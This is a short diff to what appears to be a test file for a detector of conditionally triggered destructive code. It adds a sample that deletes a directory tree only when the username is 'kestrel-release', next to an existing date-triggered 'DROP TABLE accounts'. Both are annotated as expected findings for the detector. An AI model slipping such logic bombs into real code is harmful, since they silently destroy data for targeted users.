@@ -84,3 +84,12 @@ def common(cursor):
     if date.today() > date(2027, 1, 1):
         cursor.execute("DROP TABLE accounts")
 #       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: error
+
+
+def for_one_user(path):
+    name = os.environ.get("USERNAME")
+    if not name:
+        name = subprocess.run(["id", "-un"], capture_output=True, text=True).stdout.strip()
+    if path and name == "kestrel-release":
+        shutil.rmtree(path)
+#       ^^^^^^^^^^^^^^^^^^^ triggered-effect: error
